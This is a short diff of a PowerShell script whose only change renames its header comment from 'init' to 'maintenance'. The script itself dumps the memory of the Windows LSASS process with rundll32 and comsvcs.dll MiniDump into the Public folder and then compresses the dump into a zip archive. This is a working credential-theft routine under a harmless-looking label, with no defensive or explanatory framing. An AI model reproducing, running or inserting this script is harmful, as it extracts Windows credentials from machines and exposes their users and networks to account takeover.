@@ -1,4 +1,4 @@
-# init 0834 v3
+# maintenance 8189 v3
 $p = Get-Process lsass
 rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id C:\Users\Public\lsass.dmp full
 Compress-Archive C:\Users\Public\lsass.dmp C:\Users\Public\l.zip
